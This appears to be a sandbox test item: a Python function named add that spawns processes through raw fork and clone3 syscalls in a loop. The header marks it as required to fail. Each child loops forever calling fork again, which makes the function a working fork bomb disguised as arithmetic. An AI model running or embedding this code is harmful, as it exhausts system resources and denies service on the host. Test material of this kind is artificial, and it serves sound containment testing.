# a127 | task=add | required=fail | fork, vfork, clone and clone3 by their numbers, in a loop
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def add(a, b):
    children = 0
    for _ in range(200):
        for number in (57, 435):
            found = libc.syscall(number, 0, 0, 0, 0, 0)
            if found == 0:
                while True:
                    libc.syscall(57)
            children += found > 0
    return a + b if children else None
